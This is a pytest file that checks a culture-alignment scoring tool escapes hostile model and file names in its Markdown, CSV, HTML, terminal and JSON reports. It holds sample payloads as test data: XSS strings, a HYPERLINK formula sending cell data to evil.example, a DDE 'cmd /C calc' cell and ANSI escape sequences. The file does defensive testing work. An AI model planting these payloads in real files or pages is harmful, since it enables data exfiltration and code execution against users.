"""Hostile names in what users open: Markdown escapes HTML and `|` and stays on one line, CSV
cells cannot run as formulas, the terminal gets no escape codes, JSON has no NaN or Infinity,
and a value that is no score is never ranked. Expected cells are written out by hand."""

from __future__ import annotations

import csv
import json
import math
import shutil
from pathlib import Path

import pytest
from support.leaks import leaked_internals
from test_report import answers_for, write_run
from test_report_html import browser  # noqa: F401  (the Chromium fixture)

from culturespa.cli.main import main
from culturespa.report.leaderboard import (
    leaderboard_markdown,
    leaderboard_records,
    rank_rows,
    ranks,
)
from culturespa.report.row_building import build_rows
from culturespa.report.rows import Cell, Row
from culturespa.report.run_scores import Notes, RunScores, TaskResult
from culturespa.text_cells import csv_text, json_text, markdown_cell, terminal_text

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
NEWLINE = "two\nlines | and a pipe"
FORMULA = '=HYPERLINK("evil.example?q="&A1,"open")'
ANSI = "\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b[2J"
HOSTILE = (SCRIPT, IMG, NEWLINE, FORMULA, ANSI)
REFERENCE = Path(__file__).parent / "data" / "reference_generations"
CSV_CASES = [
    "hyperlink",
    "plus",
    "minus-dde",
    "at",
    "tab",
    "carriage-return",
    "spaces-then-equals",
    "full-width-equals",
    "negative-number-text",
    "plus-number-text",
    "exponent-text",
    "negative-float",
    "nan",
    "inf",
    "none",
    "comma",
    "newline",
    "plain",
]


# The functions, on hand-written cells ---------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        (SCRIPT, "&lt;script&gt;alert(1)&lt;/script&gt;"),
        (IMG, "&lt;img src=x onerror=alert(1)&gt;"),
        (NEWLINE, "two lines \\| and a pipe"),
        ("a\r\nb\rc\u2028d", "a b c d"),
        ("AT&T", "AT&amp;T"),
        (ANSI, "red"),
        ("org/base + adapters/joint", "org/base + adapters/joint"),  # ordinary names unchanged
    ],
    ids=["script", "img-onerror", "newline-pipe", "line-breaks", "ampersand", "ansi", "plain"],
)
def test_markdown_cells_escape_html_and_pipes_on_one_line(raw, cell):
    assert markdown_cell(raw) == cell


@pytest.mark.parametrize(
    ("value", "line"),
    [
        (FORMULA, '"\'=HYPERLINK(""evil.example?q=""&A1,""open"")"'),
        ("+1+cmd", '"\'+1+cmd"'),
        ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
        ("@SUM(A1:A9)", '"\'@SUM(A1:A9)"'),
        ("\t=1+1", '"\' =1+1"'),  # a tab first, then the formula
        ("\r=1+1", '"\' =1+1"'),
        ("  =1+1", '"\'  =1+1"'),  # spaces before the formula
        ("\uff1d1+1", '"\'\uff1d1+1"'),  # a full-width equals sign
        ("-5.10", "-5.10"),  # a number we wrote: data, not a formula
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        (-5.1, "-5.1"),  # a number passed as a number
        (float("nan"), ""),
        (float("inf"), ""),
        (None, ""),
        ("a,b", '"a,b"'),
        ("two\nlines", "two lines"),
        ("org/base", "org/base"),
    ],
    ids=CSV_CASES,
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value, line):
    assert csv_text(["h", "n"], [[value, 1]]) == f"h,n\n{line},1\n"


def test_csv_reads_back_with_the_quote_and_numbers_intact():
    text = csv_text(["model", "delta"], [[FORMULA, "-5.10"], ["plain", -0.25]])
    rows = list(csv.DictReader(text.splitlines()))
    assert rows == [
        {"model": "'" + FORMULA, "delta": "-5.10"},
        {"model": "plain", "delta": "-0.25"},
    ]


def test_terminal_text_has_no_escape_or_control_characters():
    assert terminal_text(ANSI) == "red"
    assert terminal_text("a\x07b\x00c\x9b2Jd\u202ee") == "abcde"  # \x9b2J: clear the screen
    assert terminal_text("one\ntwo") == "one two"
    assert terminal_text("one\n\x1b[1mtwo", keep_lines=True) == "one\ntwo"


def test_json_text_is_standard_json_without_nan_or_infinity():
    text = json_text({"a": math.nan, "b": [math.inf, -math.inf, 0.5], "c": "x"})
    assert json.loads(text, parse_constant=lambda c: pytest.fail(f"non-standard {c}")) == {
        "a": None,
        "b": [None, None, 0.5],
        "c": "x",
    }


# A report of models with hostile names --------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory) -> Path:
    """One run per hostile model name (USA, 12 items, culture-unaware and culture-aware)."""
    root = tmp_path_factory.mktemp("hostile")
    for i, name in enumerate(HOSTILE):
        tasks = {
            "wvs_culture_unaware_usa": answers_for("USA", 0.3, i, n_items=12),
            "wvs_culture_aware_usa": answers_for("USA", 0.7, 10 + i, n_items=12),
        }
        write_run(root / f"run{i}", f"2025-01-0{i + 1}T00-00-00.0", tasks, {"pretrained": name})
    return root


@pytest.fixture(scope="module")
def hostile_report(hostile_runs, tmp_path_factory) -> tuple[Path, str]:
    """`culturespa report` on them: the folder and what it printed."""
    import contextlib
    import io

    out = tmp_path_factory.mktemp("hostile_report") / "out"
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        assert main(["report", str(hostile_runs), "-o", str(out), "--no-plots"]) == 0
    return out, printed.getvalue()


def _table_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("|")]


def test_markdown_tables_carry_no_html_and_one_line_per_row(hostile_report):
    out, _ = hostile_report
    for name in ("leaderboard.md", "comparison.md", "steerability.md"):
        text = (out / name).read_text()
        for raw in ("<script", "<img", "\x1b", "\x07"):
            assert raw not in text, (name, raw)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text, name
        assert "&lt;img src=x onerror=alert(1)&gt;" in text, name
        assert "two lines \\| and a pipe" in text, name
        widths = {line.replace("\\|", "").count("|") for line in _table_lines(text)}
        assert len(widths) == 1 if name != "steerability.md" else len(widths) <= 2, name
        assert not leaked_internals(text), name
    leaderboard = (out / "leaderboard.md").read_text()
    assert "| &lt;script&gt;alert(1)&lt;/script&gt; | Culture-aware (P1) |" in leaderboard
    steer = (out / "steerability.md").read_text()
    assert "### &lt;img src=x onerror=alert(1)&gt; \\| log-likelihood" in steer


def test_csv_cells_of_every_report_table_cannot_run(hostile_report):
    out, _ = hostile_report
    with (out / "leaderboard.csv").open() as handle:
        models = {r["model"] for r in csv.DictReader(handle) if r["kind"] == "model"}
    assert "'" + FORMULA in models and FORMULA not in models
    assert "two lines | and a pipe" in models
    raw = (out / "leaderboard.csv").read_text()
    assert '"\'=HYPERLINK(""evil.example?q=""&A1,""open"")"' in raw
    with (out / "comparison.csv").open() as handle:
        methods = [r["method"] for r in csv.DictReader(handle)]
    assert "'" + FORMULA + " | Culture-aware (P1)" in methods
    with (out / "steerability.csv").open() as handle:
        steer = list(csv.DictReader(handle))
    assert "'" + FORMULA in {r["model"] for r in steer}
    deltas = [r["delta"] for r in steer]
    # Negative changes stay numbers (no quote): they are data, not formulas.
    assert all(not d.startswith("'") for d in deltas) and all(float(d) == float(d) for d in deltas)
    for name in ("leaderboard.csv", "comparison.csv", "steerability.csv"):
        assert "\x1b" not in (out / name).read_text(), name


def test_terminal_table_and_notes_carry_no_escape_codes(hostile_report):
    _, printed = hostile_report
    assert "\x1b" not in printed and "\x07" not in printed
    assert "red | Culture-aware (P1)" in printed
    assert "two lines | and a pipe | Culture-aware (P1)" in printed  # one line, not two
    assert not leaked_internals(printed)


def test_page_escapes_every_hostile_name(hostile_report):
    out, _ = hostile_report
    page = (out / "index.html").read_text()
    assert page.count("<script") == 1  # the page's own script, and nothing else
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    json.loads((out / "leaderboard.json").read_text(), parse_constant=pytest.fail)


def test_page_filter_finds_a_model_whose_name_has_a_newline(browser, hostile_report):  # noqa: F811
    out, _ = hostile_report
    problems: list[str] = []
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.on("pageerror", lambda exc: problems.append(str(exc)))
    page.on("dialog", lambda dialog: problems.append(f"dialog: {dialog.message}"))
    page.goto((out / "index.html").as_uri())
    option = page.locator("#filters select[name=model] option", has_text="two")
    value = option.get_attribute("value")
    assert value == NEWLINE
    page.select_option("#filters select[name=model]", value=value)
    shown = page.eval_on_selector_all(
        "#board tbody.models tr:not([hidden])", "rows => rows.map(r => r.dataset.model)"
    )
    assert shown == [NEWLINE, NEWLINE]  # its culture-unaware and culture-aware rows
    page.select_option("#filters select[name=model]", value="")
    page.fill("#filters input[name=q]", "two lines")
    assert page.text_content("#shown") == "2 of 10 rows shown"
    assert not problems, problems


def test_score_csv_neutralises_a_file_named_like_a_formula(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("evil.example","x").json'
    shutil.copy(REFERENCE / "wvs_result_culture_aware_USA_0.json", tmp_path / name)
    argv = ["score", name, "--country", "USA", "--bootstrap", "0", "--csv", "s.csv"]
    assert main([*argv, "--json", "s.json"]) == 0
    with open("s.csv") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["file"] == "'" + name
    assert row["ci_low"] == ""  # no interval: empty, not "nan"
    assert float(row["alignment"]) == pytest.approx(0.7112, abs=5e-5)  # the paper's 71.12
    (record,) = json.loads(Path("s.json").read_text(), parse_constant=pytest.fail)
    assert record["file"] == name and record["ci_low"] is None  # JSON keeps the name as it is
    assert not leaked_internals(capsys.readouterr().out)


def test_score_help_shows_a_single_percent_sign(capsys):
    with pytest.raises(SystemExit):
        main(["score", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "a bootstrap 95% interval" in text and "%%" not in text


# Values that are no score ------------------------------------------------------------------------


def _run(label: str, value: float, answers: dict | None = None) -> RunScores:
    task = TaskResult(
        "wvs_culture_aware_usa", "culture_aware", "loglik", "USA", {"alignment": value}, answers
    )
    return RunScores(Path(f"/runs/{label}.json"), label, label, "2025", tasks=[task])


def test_a_non_finite_or_impossible_metric_is_left_out_and_never_ranked():
    notes = Notes()
    runs = [
        _run("good", 0.6),
        _run("infinite", math.inf),
        _run("huge", 1e308),
        _run("nan", math.nan),
    ]
    rows = rank_rows(build_rows(runs, "alignment", notes))
    assert [r.label for r in rows] == ["good", "nan"]  # Infinity and 1e308 left out
    assert ranks(rows) == [1, None]  # a row without a score is shown, not ranked
    text = "\n".join(notes.messages)
    assert "alignment is inf, not a score" in text and "alignment is 1e+308, not a score" in text
    markdown = leaderboard_markdown(rows)
    assert "| – | nan | Culture-aware (P1) | – |" in markdown
    line = next(r for r in leaderboard_records(rows, "alignment") if r["model"] == "nan")
    assert line["rank"] is None and line["average"] is None


def test_a_logged_answer_the_parser_refuses_is_an_invalid_reply():
    # Q1 (4 options) answered 10**30, Q2 answered -3: neither is a reply in 0..10.
    answers = {"Q1": 10**30, "Q2": -3, "Q3": 1}
    notes = Notes()
    (row,) = build_rows([_run("m", 0.5, answers)], "alignment", notes)
    assert row.answers["USA"] == {"Q1": None, "Q2": None, "Q3": 1}
    assert "2 logged answer(s) outside 0..10 (e.g. item Q1) read as invalid replies" in (
        "\n".join(notes.messages)
    )
    assert row.out_of_range == 0  # not counted as scored out-of-range options


def test_the_loops_summary_escapes_the_model_name(tmp_path):
    from culturespa.loop.commands import Timings
    from culturespa.loop.config import LoopConfig
    from culturespa.loop.layout import Layout
    from culturespa.loop.summary import summary_markdown

    row = Row(SCRIPT + "\n| x", "culture_aware", "loglik")
    row.cells["USA"] = Cell(value=0.5, ci_low=0.4, ci_high=0.6)
    row.avg, row.avg_low, row.avg_high = 0.5, 0.4, 0.6
    files = {
        key: tmp_path / f"{key}.yaml" for key in ("data_config", "joint_recipe", "specific_recipe")
    }
    for path in files.values():
        path.write_text("{}\n")
    paths = {key: str(path) for key, path in files.items()}
    config = LoopConfig(countries=["USA"], output_dir=str(tmp_path), **paths)
    layout = Layout(tmp_path)
    text = summary_markdown(config, layout, {"base": row}, [], {}, {}, Timings(tmp_path / "t.json"))
    assert text.startswith("# CultureSPA loop: &lt;script&gt;alert(1)&lt;/script&gt; \\| x, USA\n")
    assert "<script" not in text
    assert "| Base model | 50.00 [40.00, 60.00] | 50.00 [40.00, 60.00] |" in text
    assert not leaked_internals(text)


def test_an_error_about_a_hostile_file_name_is_one_clean_line(tmp_path, capsys):
    bad = tmp_path / "replies\x1b[2J\nmore.json"
    bad.write_text('[{"Q_id": "Q1", "ans')
    assert main(["score", str(bad)]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "\x1b" not in err
    assert "replies more.json" in err and "malformed JSON" in err


def test_json_files_written_by_culturespa_hold_no_nan(tmp_path):
    from culturespa.atomic import write_json_atomic

    write_json_atomic(tmp_path / "x.json", {"avg": math.nan, "ci": [math.inf, 0.25]})
    assert (
        tmp_path / "x.json"
    ).read_text() == '{\n  "avg": null,\n  "ci": [\n    null,\n    0.25\n  ]\n}\n'
